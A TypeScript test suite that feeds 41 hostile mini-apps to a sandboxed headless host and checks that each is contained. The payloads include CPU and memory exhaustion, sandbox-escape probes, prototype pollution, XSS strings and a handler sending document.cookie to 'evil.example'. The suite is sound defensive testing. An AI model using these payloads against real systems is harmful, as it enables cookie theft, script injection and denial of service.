/**
 * Hostile mini-apps. Each is a real package (inline sources packed by the real `pack` and signed
 * by the test bank), run in the headless host; each asserts containment with the exact error,
 * and after each the same host opens a normal mini-app that works.
 */
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { BridgeCall } from '../../../protocol/bridge.ts';
import { LilyError, type ErrorPayload } from '../../../protocol/errors.ts';
import { HeadlessHost, type HeadlessApp } from '../../../runtime/headless/index.ts';
import type { SandboxLimits } from '../../../runtime/limits.ts';
import type { LilyPackage } from '../../../runtime/package/format.ts';
import type { Manifest } from '../../../runtime/package/manifest.ts';
import { ManualScheduler } from '../../../runtime/scheduler.ts';
import { useLeakCheckedEngine } from '../../runtime/support/engine.ts';
import { NORMAL_PAGE, packSources, TEST_BANK } from '../../runtime/support/packages.ts';

const engine = useLeakCheckedEngine();
/** The default CPU deadline, for the attacks on it. */
const CPU_DEFAULT = { cpuMsPerEntry: 100 };
let normal: LilyPackage;
const bridgeCalls: BridgeCall[] = [];

beforeAll(async () => {
  normal = await packSources({ 'pages/index/index.js': NORMAL_PAGE }, { appId: 'com.test.normal' });
});

afterEach(() => {
  bridgeCalls.length = 0;
});

/**
 * A host with the default limits, except that attacks aimed at other limits get a 2 s CPU
 * deadline so that a loaded test machine cannot trip the CPU limit first; CPU attacks pass
 * `CPU_DEFAULT` and meet the real 100 ms deadline.
 */
async function makeHost(limits: Partial<SandboxLimits> = {}): Promise<HeadlessHost> {
  return HeadlessHost.create({
    bankPublicKey: TEST_BANK.publicKey,
    engine: engine(),
    limits: { cpuMsPerEntry: 2000, ...limits },
    bridge: async (call) => {
      bridgeCalls.push(call);
      return { result: { ok: true } };
    },
  });
}

/** The host still works: a normal mini-app opens, taps and renders. */
async function normalAppWorks(host: HeadlessHost): Promise<void> {
  const app = await host.open(normal);
  await app.tap('add');
  await app.tap('add');
  expect(app.text()).toBe('n=2 add');
  app.close();
}

async function hostile(files: Record<string, string>, manifest: Partial<Manifest> = {}): Promise<LilyPackage> {
  return packSources(files, { appId: 'com.test.hostile', ...manifest });
}

/** Opening is refused with `code` (and `details` matching). */
async function expectLaunchRefused(host: HeadlessHost, pkg: LilyPackage, code: string, details: Record<string, unknown> = {}): Promise<LilyError> {
  const err = await host.open(pkg).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(LilyError);
  expect({ code: (err as LilyError).code, details: (err as LilyError).details }).toMatchObject({ code, details });
  return err as LilyError;
}

/** The app opened; `handler` stops it with `code` (and `details` matching). */
async function expectStoppedBy(app: HeadlessApp, handler: string, code: string, details: Record<string, unknown> = {}): Promise<ErrorPayload> {
  const outcome = await app.tap(handler);
  expect(outcome.status).toBe('stopped');
  expect(app.state).toBe('stopped');
  expect(app.stopReason).toMatchObject({ code, details });
  return app.stopReason!;
}

const page = (body: string) => ({ 'pages/index/index.js': body });
const withButton = (method: string) => `
Page({
  ${method}
  render: () => h('button', { bindtap: 'attack' }, 'attack'),
});`;

describe('hostile mini-apps are contained', () => {
  it('01 infinite loop at load', async () => {
    const host = await makeHost(CPU_DEFAULT);
    await expectLaunchRefused(host, await hostile(page(`for (;;) {} Page({ render: () => h('view') });`)), 'SANDBOX_LIMIT', { limit: 'cpu', phase: 'load' });
    await normalAppWorks(host);
  });

  it('02 infinite loop in App.onLaunch', async () => {
    const host = await makeHost(CPU_DEFAULT);
    const pkg = await hostile({ 'app.js': `App({ onLaunch() { while (true) {} } });`, ...page(`Page({ render: () => h('view') });`) });
    await expectLaunchRefused(host, pkg, 'SANDBOX_LIMIT', { limit: 'cpu', phase: 'launch' });
    await normalAppWorks(host);
  });

  it('03 infinite loop in a handler, with try/catch and finally trying to survive', async () => {
    const host = await makeHost(CPU_DEFAULT);
    const app = await host.open(await hostile(page(withButton(`attack() { for (;;) { try { for (;;) {} } catch (e) {} finally { continue; } } },`))));
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'cpu', phase: 'event' });
    await normalAppWorks(host);
  });

  it('04 infinite loop in a promise job', async () => {
    const host = await makeHost(CPU_DEFAULT);
    const app = await host.open(await hostile(page(withButton(`attack() { Promise.resolve().then(() => { for (;;) {} }); },`))));
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'cpu', phase: 'drain' });
    await normalAppWorks(host);
  });

  it('05 endless chain of promise jobs (promise flood)', async () => {
    const host = await makeHost(CPU_DEFAULT);
    const app = await host.open(await hostile(page(withButton(`attack() { const again = () => { Promise.resolve().then(again); }; again(); },`))));
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'cpu', phase: 'drain' });
    await normalAppWorks(host);
  });

  it('06 exponential promise flood exhausts its heap, not the host', async () => {
    const host = await makeHost({ heapBytes: 4 * 1024 * 1024, cpuMsPerEntry: 10_000 });
    const app = await host.open(await hostile(page(withButton(`attack() { const split = () => { Promise.resolve().then(split); Promise.resolve().then(split); }; split(); },`))));
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'heap' });
    await normalAppWorks(host);
  });

  it('07 infinite loop in a timer callback', async () => {
    const clock = new ManualScheduler();
    const host = await makeHost(CPU_DEFAULT);
    const app = await host.open(await hostile(page(`Page({ onLoad() { setTimeout(() => { for (;;) {} }, 10); }, render: () => h('view') });`)), { scheduler: clock });
    clock.advance(10);
    expect(app.stopReason).toMatchObject({ code: 'SANDBOX_LIMIT', details: { limit: 'cpu', phase: 'timer' } });
    await normalAppWorks(host);
  });

  it('08 infinite loop in render', async () => {
    const host = await makeHost(CPU_DEFAULT);
    const pkg = await hostile(page(`Page({ data: { spin: false }, attack() { this.setData({ spin: true }); }, render: (d) => { while (d.spin) {} return h('button', { bindtap: 'attack' }, 'x'); } });`));
    const app = await host.open(pkg);
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'cpu', phase: 'drain' });
    await normalAppWorks(host);
  });

  it('09 memory bomb with typed arrays', async () => {
    const host = await makeHost({ cpuMsPerEntry: 10_000 });
    const app = await host.open(await hostile(page(withButton(`attack() { const keep = []; for (;;) keep.push(new Uint8Array(4 << 20)); },`))));
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'heap' });
    await normalAppWorks(host);
  });

  it('10 memory bomb with many small objects', async () => {
    const host = await makeHost({ heapBytes: 4 * 1024 * 1024, cpuMsPerEntry: 10_000 });
    const app = await host.open(await hostile(page(withButton(`attack() { const keep = []; for (let i = 0; ; i++) keep.push({ i, a: [i, i, i, i, i, i, i, i] }); },`))));
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'heap' });
    await normalAppWorks(host);
  });

  it('11 huge string built by one built-in call', async () => {
    const host = await makeHost();
    await expectLaunchRefused(host, await hostile(page(`const s = 'x'.repeat(2 ** 28); Page({ render: () => h('text', null, s.slice(0, 1)) });`)), 'SANDBOX_LIMIT', { limit: 'heap' });
    await normalAppWorks(host);
  });

  it('12 huge string doubled until it breaks', async () => {
    const host = await makeHost({ cpuMsPerEntry: 10_000 });
    const app = await host.open(await hostile(page(withButton(`attack() { let s = 'ab'; const keep = []; for (;;) { s = s.padEnd(s.length * 2, s); keep.push(s.slice(1)); } },`))));
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'heap' });
    await normalAppWorks(host);
  });

  it('13 deep recursion', async () => {
    const host = await makeHost();
    const app = await host.open(await hostile(page(withButton(`attack() { const down = (n) => down(n + 1) + 1; down(0); },`))));
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'stack' });
    await normalAppWorks(host);
  });

  it('14 deep recursion through JSON.stringify of a self-nested structure', async () => {
    const host = await makeHost();
    const app = await host.open(await hostile(page(withButton(`attack() { let a = []; for (let i = 0; i < 5000; i++) a = [a]; JSON.stringify(a); },`))));
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'stack' });
    await normalAppWorks(host);
  });

  it('15 deeply nested source code cannot overflow the host while parsing', async () => {
    const host = await makeHost();
    const nested = '['.repeat(3000) + ']'.repeat(3000);
    await expectLaunchRefused(host, await hostile(page(`const x = ${nested}; Page({ x, render: () => h('view') });`)), 'SANDBOX_LIMIT', { limit: 'stack', phase: 'load' });
    await normalAppWorks(host);
  });

  it('16 timer flood', async () => {
    const host = await makeHost();
    const app = await host.open(await hostile(page(withButton(`attack() { for (;;) setTimeout(() => {}, 60000); },`))));
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'timers' });
    await normalAppWorks(host);
  });

  it('17 setData flood', async () => {
    const host = await makeHost();
    const app = await host.open(await hostile(page(withButton(`attack() { for (let i = 0; ; i++) this.setData({ i }); },`))));
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'setDataRate' });
    await normalAppWorks(host);
  });

  it('18 huge setData', async () => {
    const host = await makeHost();
    const app = await host.open(await hostile(page(withButton(`attack() { this.setData({ rows: new Array(20000).fill('row-row-row-row') }); },`))));
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'setDataSize' });
    await normalAppWorks(host);
  });

  it('19 bridge flood', async () => {
    const host = await makeHost();
    const app = await host.open(await hostile(page(withButton(`attack() { for (;;) lily.base.ui.showToast({ title: 'spam' }); },`))));
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'inFlightCalls' });
    await normalAppWorks(host);
  });

  it('20 oversized bridge payload', async () => {
    const host = await makeHost();
    const app = await host.open(await hostile(page(withButton(`attack() { lily.base.ui.showToast({ title: 'x', junk: 'j'.repeat(2 << 20) }); },`))));
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'bridgePayload' });
    expect(bridgeCalls).toEqual([]);
    await normalAppWorks(host);
  });

  it('21 reaching for process, require, import(), fetch and the host globalThis finds nothing', async () => {
    const host = await makeHost();
    const pkg = await hostile(
      page(`
        const probes = {
          process: () => typeof process, require: () => typeof globalThis.require, module: () => typeof globalThis.module, fetch: () => typeof fetch,
          requireFs: () => { try { const name = ['f', 's'].join(''); return typeof require(name).readFileSync; } catch (e) { return 'threw ' + e.name; } },
          XMLHttpRequest: () => typeof XMLHttpRequest, Buffer: () => typeof Buffer, window: () => typeof window,
          globalProcess: () => typeof globalThis.process, thisProcess: () => typeof (function () { return this; })().process,
          ctorEscape: () => { try { return typeof ({}).constructor.constructor('return process')(); } catch (e) { return e.name; } },
          hostFns: () => Object.getOwnPropertyNames(globalThis).filter((n) => /^__|host|native/i.test(n)).join('|') || 'none',
          lilyKeys: () => Object.keys(lily).sort().join('|'),
        };
        const found = {};
        for (const k in probes) { try { found[k] = probes[k](); } catch (e) { found[k] = 'threw ' + e.name; } }
        Page({
          data: { found, imported: 'pending' },
          async onLoad() {
            const name = ['o', 's'].join('');
            try { await import(name); this.setData({ imported: 'loaded!' }); } catch (e) { this.setData({ imported: 'refused ' + e.name }); }
          },
          render: (d) => h('text', null, JSON.stringify(d.found) + ' ' + d.imported),
        });`),
    );
    const app = await host.open(pkg);
    await app.idle();
    const [found, imported] = [JSON.parse(app.text().slice(0, app.text().lastIndexOf('}') + 1)), app.text().slice(app.text().lastIndexOf('}') + 2)];
    expect(found).toEqual({
      process: 'undefined',
      require: 'undefined',
      module: 'undefined',
      requireFs: 'threw Error',
      fetch: 'undefined',
      XMLHttpRequest: 'undefined',
      Buffer: 'undefined',
      window: 'undefined',
      globalProcess: 'undefined',
      thisProcess: 'undefined',
      ctorEscape: 'EvalError',
      hostFns: 'none',
      // Only the granted capabilities' namespace and their flat aliases: nothing from the host.
      lilyKeys: 'base|hideLoading|navigateBack|navigateTo|reLaunch|redirectTo|setNavigationBarTitle|showActionSheet|showLoading|showModal|showToast',
    });
    expect(imported).toMatch(/^refused /);
    app.close();
    await normalAppWorks(host);
  });

  it('22 prototype pollution of objects from the host stays inside the sandbox', async () => {
    const host = await makeHost();
    const pkg = await hostile(
      page(
        withButton(`
        async attack() {
          const answer = await lily.payment.orders.listOrders({ page: 1 });
          answer.__proto__.polluted = 'yes';
          Object.prototype.isAdmin = true;
          Array.prototype.push = () => { throw new Error('broken push'); };
          Object.prototype.toJSON = function () { return { hijacked: true }; };
          JSON.stringify = () => '{"title":"forged","appId":"com.bank.admin"}';
          Promise.prototype.then = function () { return this; };
          const second = await lily.payment.orders.listOrders({ page: 2 }).catch((e) => e);
          this.setData({ done: true });
        },`),
      ),
      { capabilities: [{ id: 'payment.orders', reason: 'Lists the user orders.' }] },
    );
    const app = await host.open(pkg);
    await app.tap('attack');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(typeof Array.prototype.push).toBe('function');
    expect([1].map((x) => x + 1)).toEqual([2]);
    expect(bridgeCalls.map((c) => [c.appId, c.params])).toEqual([
      ['com.test.hostile', { page: 1 }],
      ['com.test.hostile', { hijacked: true }],
    ]);
    for (const call of bridgeCalls) expect(Object.getPrototypeOf(call.params)).toBe(Object.prototype);
    app.close();
    await normalAppWorks(host);
  });

  it('23 forging appId or instanceId in a bridge call', async () => {
    const host = await makeHost();
    const pkg = await hostile(
      page(
        withButton(`
        async attack() {
          await lily.payment.orders.listOrders({ appId: 'com.bank.admin', instanceId: 'inst_other', callId: 1 });
          try { Object.defineProperty(lily, 'payment', { value: {} }); } catch (e) {}
          lily.payment = { orders: { listOrders: () => 'fake' } };
          await lily.payment.orders.listOrders.call({ appId: 'com.bank.admin' }, { page: 2 });
        },`),
      ),
      { capabilities: [{ id: 'payment.orders', reason: 'Lists the user orders.' }] },
    );
    const app = await host.open(pkg);
    await app.tap('attack');
    expect(bridgeCalls.map((c) => [c.appId, c.instanceId])).toEqual([
      ['com.test.hostile', app.instance.instanceId],
      ['com.test.hostile', app.instance.instanceId],
    ]);
    expect(bridgeCalls[0]!.params).toEqual({ appId: 'com.bank.admin', instanceId: 'inst_other', callId: 1 });
    app.close();
    await normalAppWorks(host);
  });

  it('24 calling undeclared capabilities never reaches the host', async () => {
    const host = await makeHost();
    const pkg = await hostile(
      page(
        withButton(`
        async attack() {
          const codes = [];
          for (const f of [() => lily.payment.cashier.requestPayment({ prepayId: 'pp' }), () => lily.member.phone.getPhoneNumber(), () => lily.base.ui.showToast.call(null, { title: 'ok' })]) {
            try { await f(); codes.push('ok'); } catch (e) { codes.push(e.code); }
          }
          this.setData({ codes: codes.join(' ') });
        },`),
      ),
      { capabilities: [{ id: 'base.ui', reason: 'Toasts.' }] },
    );
    const app = await host.open(pkg);
    await app.tap('attack');
    expect(app.calls.map((c) => `${c.call.capability}.${c.call.method}`)).toEqual(['base.ui.showToast']);
    expect(bridgeCalls).toEqual([]);
    expect(app.instance.tree()!.props).toBeDefined();
    app.close();
    await normalAppWorks(host);
  });

  it('25 re-entrancy: setData during render', async () => {
    const host = await makeHost();
    const pkg = await hostile(page(`Page({ data: { n: 0 }, attack() { this.setData({ n: 1 }); }, render(d) { if (d.n) this.setData({ n: d.n + 1 }); return h('button', { bindtap: 'attack' }, String(d.n)); } });`));
    const app = await host.open(pkg);
    await expectStoppedBy(app, 'attack', 'SANDBOX_CRASHED', { reason: 'reentrant-render' });
    await normalAppWorks(host);
  });

  it('26 re-entrancy: a host that calls back into the instance from inside a callback is refused', async () => {
    const host = await makeHost();
    const app = await host.open(await hostile(page(`Page({ data: { n: 0 }, attack() { this.setData({ n: this.data.n + 1 }); }, render: (d) => h('button', { bindtap: 'attack' }, String(d.n)) });`)));
    const inner: unknown[] = [];
    const original = app.instance['events' as never] as { onRender?: () => void };
    original.onRender = () => inner.push(app.instance.dispatchEvent({ handler: 'attack', type: 'tap' }), app.instance.navigate({ method: 'navigateBack' }));
    await app.tap('attack');
    expect(inner).toEqual([
      { status: 'refused', error: { code: 'INVALID_STATE', message: expect.any(String) } },
      { error: { code: 'INVALID_STATE', message: expect.any(String) } },
    ]);
    expect(app.text()).toBe('1');
    app.close();
    await normalAppWorks(host);
  });

  it('27 throwing a number at load', async () => {
    const host = await makeHost();
    const err = await expectLaunchRefused(host, await hostile(page(`throw 42;`)), 'SANDBOX_CRASHED', { phase: 'load' });
    expect(err.message).toContain('a thrown number: 42');
    await normalAppWorks(host);
  });

  it('28 throwing a Proxy whose every trap throws', async () => {
    const host = await makeHost();
    const evil = `new Proxy({}, { get() { throw new Error('trap'); }, getPrototypeOf() { throw new Error('trap'); }, has() { throw new Error('trap'); } })`;
    const err = await expectLaunchRefused(host, await hostile(page(`throw ${evil};`)), 'SANDBOX_CRASHED', { phase: 'load' });
    expect(err.message).toContain('cannot be described');
    await normalAppWorks(host);
  });

  it('29 throwing an object whose message getter never returns', async () => {
    const host = await makeHost(CPU_DEFAULT);
    await expectLaunchRefused(host, await hostile(page(`throw { get message() { for (;;) {} } };`)), 'SANDBOX_LIMIT', { limit: 'cpu' });
    await normalAppWorks(host);
  });

  it('30 throwing odd values from handlers: reported, and the app goes on', async () => {
    const host = await makeHost();
    const pkg = await hostile(
      page(`
        Page({
          data: { n: 0 },
          a() { throw null; }, b() { throw Symbol('s'); }, c() { throw { toString() { throw 1; } }; }, d() { throw undefined; },
          ok() { this.setData({ n: this.data.n + 1 }); },
          render: (d) => h('view', null, ...['a', 'b', 'c', 'd', 'ok'].map((m) => h('button', { bindtap: m }, m)), h('text', null, String(d.n))),
        });`),
    );
    const app = await host.open(pkg);
    for (const m of ['a', 'b', 'c', 'd']) expect((await app.tap(m)).status).toBe('threw');
    await app.tap('ok');
    expect(app.text()).toBe('a b c d ok 1');
    expect(app.errors).toHaveLength(4);
    app.close();
    await normalAppWorks(host);
  });

  it('31 invalid view: unknown component', async () => {
    const host = await makeHost();
    await expectLaunchRefused(host, await hostile(page(`Page({ render: () => h('iframe', { src: 'https://evil.example' }) });`)), 'VIEW_INVALID', { reason: 'unknown-component' });
    await normalAppWorks(host);
  });

  it('32 invalid view: script-like props (on* handler strings, innerHTML)', async () => {
    const host = await makeHost();
    const raw = `({ type: 'view', props: { onclick: 'fetch("https://evil.example/?c=" + document.cookie)' }, children: [] })`;
    await expectLaunchRefused(host, await hostile(page(`Page({ render: () => ${raw} });`)), 'VIEW_INVALID', { reason: 'script-prop' });
    await expectLaunchRefused(host, await hostile(page(`Page({ render: () => h('text', { innerHTML: '<img src=x onerror=alert(1)>' }) });`)), 'VIEW_INVALID', { reason: 'script-prop' });
    await normalAppWorks(host);
  });

  it('33 invalid view: javascript: URLs, style url(), foreign images', async () => {
    const host = await makeHost();
    await expectLaunchRefused(host, await hostile(page(`Page({ render: () => h('image', { src: 'javascript:alert(1)' }) });`)), 'VIEW_INVALID', { reason: 'script-url' });
    await expectLaunchRefused(host, await hostile(page(`Page({ render: () => h('view', { style: 'background:url(https://evil.example/track.gif)' }) });`)), 'VIEW_INVALID', { reason: 'style' });
    await expectLaunchRefused(host, await hostile(page(`Page({ render: () => h('image', { src: 'https://tracker.evil.example/p.gif' }) });`)), 'VIEW_INVALID', { reason: 'image-src' });
    await normalAppWorks(host);
  });

  it('34 invalid view: 100k nodes', async () => {
    const host = await makeHost({ cpuMsPerEntry: 10_000 });
    await expectLaunchRefused(
      host,
      await hostile(page(`Page({ render: () => h('view', null, Array.from({ length: 100000 }, () => 'n')) });`)),
      'SANDBOX_LIMIT',
      { limit: 'viewNodes' },
    );
    await normalAppWorks(host);
  });

  it('35 a function as an event prop', async () => {
    const host = await makeHost();
    const err = await expectLaunchRefused(host, await hostile(page(`Page({ render: () => h('button', { onTap: () => 1 }, 'x') });`)), 'SANDBOX_CRASHED', { phase: 'render' });
    expect(err.message).toContain('bind events by method name');
    await normalAppWorks(host);
  });

  it('36 a quadratic native string search cannot stall the host', async () => {
    const host = await makeHost(CPU_DEFAULT);
    const app = await host.open(await hostile(page(withButton(`attack() { const hay = 'a'.repeat(4e6), needle = 'a'.repeat(2e6) + 'b'; for (;;) hay.indexOf(needle) + hay.includes(needle) + hay.split(needle).length; },`))));
    const started = performance.now();
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'cpu' });
    expect(performance.now() - started).toBeLessThan(15_000);
    await normalAppWorks(host);
  });

  it('37 catastrophic regular-expression backtracking', async () => {
    const host = await makeHost(CPU_DEFAULT);
    const app = await host.open(await hostile(page(withButton(`attack() { /^(a+)+$/.test('a'.repeat(40) + 'b'); },`))));
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'cpu' });
    await normalAppWorks(host);
  });

  it('38 console flood', async () => {
    const host = await makeHost();
    const app = await host.open(await hostile(page(withButton(`attack() { for (;;) console.log('flood '.repeat(100)); },`))));
    await expectStoppedBy(app, 'attack', 'SANDBOX_LIMIT', { limit: 'console' });
    await normalAppWorks(host);
  });

  it('39 a repackaged app (script altered after signing) never runs', async () => {
    const host = await makeHost();
    const pkg = await hostile(page(`Page({ render: () => h('view') });`));
    const altered = { ...pkg, script: pkg.script + '\nlily.base.ui.showToast({ title: "pwned" });' };
    await expectLaunchRefused(host, altered, 'PACKAGE_TAMPERED', { reason: 'digest-mismatch' });
    expect(engine().runtimes.size).toBe(0);
    await normalAppWorks(host);
  });

  it('40 dynamic code: eval and the Function constructor', async () => {
    const host = await makeHost();
    const err = await expectLaunchRefused(host, await hostile(page(`const f = (() => {}).constructor; f('for(;;){}')(); Page({ render: () => h('view') });`)), 'SANDBOX_CRASHED', { phase: 'load' });
    expect(err.message).toContain('EvalError');
    await normalAppWorks(host);
  });

  it('41 navigation abuse: an endless navigateTo loop is capped and the app goes on', async () => {
    const host = await makeHost({ maxPageStack: 5 });
    const pkg = await hostile(page(`Page({ async onLoad() { try { await lily.base.navigate.navigateTo({ url: 'pages/index/index' }); } catch (e) { console.log(e.code); } }, render: () => h('view', null, 'p') });`));
    const app = await host.open(pkg);
    for (let i = 0; i < 10 && app.pages.length < 5; i++) await app.idle();
    await app.idle();
    expect(app.pages).toHaveLength(5);
    expect(app.logs.map((l) => l.message)).toContain('LIMIT_EXCEEDED');
    expect(app.state).toBe('running');
    app.close();
    await normalAppWorks(host);
  });
});
